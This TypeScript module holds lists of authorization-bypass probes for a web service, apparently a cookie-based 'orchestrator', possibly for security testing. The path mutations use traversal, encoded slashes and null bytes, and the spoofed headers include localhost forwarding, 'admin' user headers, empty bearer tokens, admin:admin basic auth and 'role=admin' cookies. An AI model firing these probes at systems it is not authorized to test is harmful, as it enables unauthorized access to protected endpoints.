export const VERBS = ['GET', 'HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'PROPFIND', 'SEARCH', 'TRACE']
export const ID = '00000000-0000-4000-8000-000000000000'

/** What has opened doors elsewhere: other spellings of a path, and ends that are public. */
export const MUTATIONS: ((path: string) => string)[] = [
  (path) => path,
  (path) => `${path}/`,
  (path) => `/${path}`,
  (path) => `/.${path}`,
  (path) => `/health/..${path}`,
  (path) => `/assets/..${path}`,
  (path) => `/%2e%2e${path}`,
  (path) => `${path}/health`,
  (path) => `${path}/../health`,
  (path) => `${path}%2fhealth`,
  (path) => `${path}%00`,
  (path) => `${path};/health`,
  (path) => `${path}.json`,
  (path) => `${path}?public=true`,
  (path) => `${path}?/health`,
  (path) => `${path}#/health`,
  (path) => path.toUpperCase(),
  (path) => path.replace(/^\/./, (start) => `/%${start.charCodeAt(1).toString(16)}`),
  (path) => path.replaceAll('/', '%2f').replace('%2f', '/'),
  (path) => path.replaceAll('/', '\\').replace('\\', '/'),
  (path) => `${path}%`,
]

/** Headers that some servers believe. */
export const HEADERS: Record<string, string>[] = [
  { 'x-original-url': '/health' },
  { 'x-rewrite-url': '/health' },
  { 'x-http-method-override': 'GET' },
  { 'x-forwarded-for': '127.0.0.1' },
  { 'x-forwarded-host': 'localhost' },
  { 'x-real-ip': '127.0.0.1' },
  { forwarded: 'for=127.0.0.1' },
  { 'x-forwarded-user': 'admin' },
  { authorization: 'Bearer' },
  { authorization: 'Bearer null' },
  { authorization: 'Basic YWRtaW46YWRtaW4=' },
  { cookie: 'orchestrator_session=' },
  { cookie: 'orchestrator_session=null; role=admin' },
]
